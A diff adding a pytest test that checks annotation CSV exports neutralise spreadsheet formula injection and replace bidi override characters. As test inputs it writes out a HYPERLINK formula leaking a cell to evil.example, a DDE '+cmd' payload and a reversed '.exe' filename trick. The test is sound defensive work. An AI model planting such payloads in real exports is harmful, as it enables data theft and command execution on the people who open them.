@@ -116,6 +116,40 @@ def test_annotations_are_stored_counted_exported_and_kept_on_a_rerun(stored_run,
     assert "deleted 1" in capsys.readouterr().out
 
 
+def test_annotation_text_opens_as_text_in_a_spreadsheet_and_reads_in_the_order_written(stored_run, db, tmp_path,
+                                                                                        capsys):
+    """Issue 44: CSV exports wrote `=HYPERLINK(...)` and `+cmd|...` as formulas, and a bidi override rendered a
+    note reversed. Formulas get a leading apostrophe in every CSV export (annotate --export, the report's rows.csv,
+    the app's CSV buttons); bidi controls are replaced when stored and when read (notes stored before)."""
+    import csv
+
+    from tmem.analysis.annotations import with_annotations
+    from tmem.store import Store
+
+    _, _, run_id, _ = stored_run
+    store = Store(db)
+    row = _row(store, run_id)
+    store.close()
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", row["question_id"], "--variant", "full",
+                "--label", "+cmd|' /C calc'!A0", "--note", formula, "--author", "@ana"]) == 0
+    assert cli(["annotate", "--db", str(db), "--run", run_id, "--export", str(tmp_path / "rows.csv")]) == 0
+    assert cli(["report", "--db", str(db), "--run", run_id, "--out", str(tmp_path / "site"), "--pages", "none"]) == 0
+    for path in (tmp_path / "rows.csv", tmp_path / "site" / "rows.csv"):
+        cells = [c for line in csv.reader(path.open()) for c in line]
+        assert "'" + formula in cells and "'+cmd|' /C calc'!A0" in cells and "'@ana" in cells, path
+        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@"))], path
+    # a note stored before the store cleaned it (straight into the table) is shown neutralised all the same
+    store = Store(db)
+    store.save_annotation({"corpus": "mini", "run_id": run_id, "scope": row["scope"], "question_id": row["question_id"],
+                           "variant": "flat", "author": "old", "label": "old \u202elabel", "note": "a \u202egnp.exe",
+                           "config_hash": None, "backend": None})
+    shown = with_annotations(store.run_results("mini", run_id), store.annotations("mini"))
+    store.close()
+    noted = shown[shown["label"].notna()]
+    assert "old \ufffdlabel" in set(noted["label"]) and "a \ufffdgnp.exe" in set(noted["note"])
+
+
 def test_bad_annotations_are_one_clear_line(stored_run, db, capsys):
     _, _, run_id, _ = stored_run
     assert cli(["annotate", "--db", str(db), "--run", run_id, "--question", "nope", "--label", "x"]) == 1
